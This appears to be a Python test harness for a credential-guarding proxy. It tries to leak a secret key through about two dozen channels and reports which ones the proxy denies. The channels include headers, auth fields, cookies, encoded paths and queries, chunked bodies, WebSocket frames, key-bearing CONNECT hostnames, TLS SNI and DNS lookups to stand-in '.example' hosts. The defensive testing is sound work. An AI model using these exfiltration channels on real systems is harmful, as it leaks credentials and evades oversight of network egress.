"""Send a stand-in to places where it has no business. Prints as JSON: the answer to each, the
stand-in, and the lines of NONO_TRIO_DENIALS.

argv: host:port over TLS, host:port in clear, host:port of another credential.
"""

import base64
import json
import os
import socket
import ssl
import sys
from urllib.parse import quote, urlsplit

KEY = os.environ["MY_KEY"]
SEEN, CLEAR, OTHER = sys.argv[1:4]
PROXY = urlsplit(os.environ["HTTPS_PROXY"])
AUTH = base64.b64encode(f"{PROXY.username}:{PROXY.password}".encode()).decode()
PERCENT = "".join(f"%{byte:02x}" for byte in KEY.encode())
BASE64 = base64.b64encode(KEY.encode()).decode()


def answer(sock):
    """The status of an answer; "cut" without one."""
    data = b""
    while b"\r\n\r\n" not in data:
        try:
            more = sock.recv(65536)
        except OSError:
            more = b""
        if not more:
            return "cut"
        data += more
    return int(data.split(b" ", 2)[1])


def proxied():
    sock = socket.create_connection((PROXY.hostname, PROXY.port))
    sock.settimeout(30)
    return sock


def connect(target):
    sock = proxied()
    sock.sendall(
        f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n"
        f"Proxy-Authorization: Basic {AUTH}\r\n\r\n".encode()
    )
    return sock, answer(sock)


def tls(target, name=None):
    sock, status = connect(target)
    assert status == 200, (target, status)
    context = ssl.create_default_context()
    context.check_hostname = name is None
    return context.wrap_socket(sock, server_hostname=name or target.partition(":")[0])


def ask(target, first, *lines, body=b""):
    length = f"Content-Length: {len(body)}" if body else "X-None: 1"
    head = "\r\n".join((first + " HTTP/1.1", f"Host: {target}", length, *lines, "", ""))
    sock = tls(target)
    try:
        sock.sendall(head.encode() + body)
    except OSError:
        return "cut"
    return answer(sock)


def clear(path, *lines):
    sock = proxied()
    head = (
        f"GET http://{CLEAR}{path} HTTP/1.1",
        f"Host: {CLEAR}",
        f"Proxy-Authorization: Basic {AUTH}",
        *lines,
        "",
        "",
    )
    sock.sendall("\r\n".join(head).encode())
    return answer(sock)


def chunked(data, trailer=""):
    sock = tls(SEEN)
    head = f"POST / HTTP/1.1\r\nHost: {SEEN}\r\nTransfer-Encoding: chunked\r\n\r\n"
    try:
        sock.sendall(head.encode())
        for byte in data:
            sock.sendall(b"1\r\n%c\r\n" % byte)
        sock.sendall(f"0\r\n{trailer}\r\n".encode())
    except OSError:
        pass
    return answer(sock)


def websocket():
    sock = tls(SEEN)
    fields = (
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
    )
    sock.sendall("\r\n".join(("GET /ws HTTP/1.1", f"Host: {SEEN}", *fields, "", "")).encode())
    upgraded = answer(sock)
    assert upgraded == 101, upgraded
    text = b"my key " + KEY.encode()
    sock.sendall(bytes((0x81, 0x80 | len(text), 0, 0, 0, 0)) + text)
    got = sock.recv(65536)
    return "cut" if not got or got[0] == 0x88 else got.decode("latin-1")


def hello():
    try:
        tls(SEEN, f"{LABEL}.example")
    except OSError:
        return "cut"
    return "went"


def looked_up():
    try:
        socket.getaddrinfo(f"{LABEL}.dns.example", 443)
    except OSError:
        return "cut"
    return "went"


LABEL = KEY  # letters, digits and hyphens, fewer than 64
JSON = ("Content-Type: application/json",)
FORM = ("Content-Type: application/x-www-form-urlencoded",)
PARTS = ("Content-Type: multipart/form-data; boundary=b",)
part = f'--b\r\nContent-Disposition: form-data; name="k"\r\n\r\n{KEY}\r\n--b--\r\n'.encode()
basic = base64.b64encode(f"me:{KEY}".encode()).decode()
ATTEMPTS = {
    "a header": lambda: ask(SEEN, "GET /", f"X-Odd: {KEY}"),
    "Bearer": lambda: ask(SEEN, "GET /", f"Authorization: Bearer {KEY}"),
    "Basic": lambda: ask(SEEN, "GET /", f"Authorization: Basic {basic}"),
    "a cookie": lambda: ask(SEEN, "GET /", f"Cookie: a=b; k={KEY}"),
    "the name of a header": lambda: ask(SEEN, "GET /", f"{KEY}: 1"),
    "the path": lambda: ask(SEEN, f"GET /a/{KEY}"),
    "the path in percent escapes": lambda: ask(SEEN, f"GET /a/{PERCENT}"),
    "the query": lambda: ask(SEEN, f"GET /?key={KEY}"),
    "the query, escaped twice": lambda: ask(SEEN, f"GET /?key={quote(PERCENT)}"),
    "the query in base64": lambda: ask(SEEN, f"GET /?x={BASE64}"),
    "JSON": lambda: ask(SEEN, "POST /", *JSON, body=json.dumps({"a": [KEY]}).encode()),
    "a form": lambda: ask(SEEN, "POST /", *FORM, body=f"a=1&k={PERCENT}".encode()),
    "parts of a form": lambda: ask(SEEN, "POST /", *PARTS, body=part),
    "a body in base64": lambda: ask(SEEN, "POST /", body=f"xx{BASE64}".encode()),
    "a body in hex": lambda: ask(SEEN, "POST /", body=KEY.encode().hex().encode()),
    "a long body": lambda: ask(SEEN, "POST /", body=bytes(300_000) + KEY.encode() + bytes(9)),
    "one byte a chunk": lambda: chunked(KEY.encode()),
    "a trailer": lambda: chunked(b"x", f"X-Sum: {KEY}\r\n"),
    "a WebSocket": websocket,
    "a plain header": lambda: clear("/", f"X-Odd: {KEY}"),
    "a plain path": lambda: clear(f"/{KEY}"),
    "another credential's host": lambda: ask(OTHER, "GET /", f"Authorization: Bearer {KEY}"),
    "the name of CONNECT": lambda: connect(f"{LABEL}.example:443")[1],
    "base64 in the name of CONNECT": lambda: connect(f"{BASE64.strip('=')}.example:443")[1],
    "hex in the name of CONNECT": lambda: connect(
        ".".join((KEY.encode().hex()[:60], KEY.encode().hex()[60:], "example:443")))[1],
    "the name of a TLS hello": hello,
    "a name that is looked up": looked_up,
}  # fmt: skip

told = {}
for name, attempt in ATTEMPTS.items():
    try:
        told[name] = attempt()
    except Exception as fault:
        told[name] = repr(fault)
with open(os.environ["NONO_TRIO_DENIALS"]) as file:
    denials = file.read().splitlines()
print(json.dumps([told, KEY, denials]))
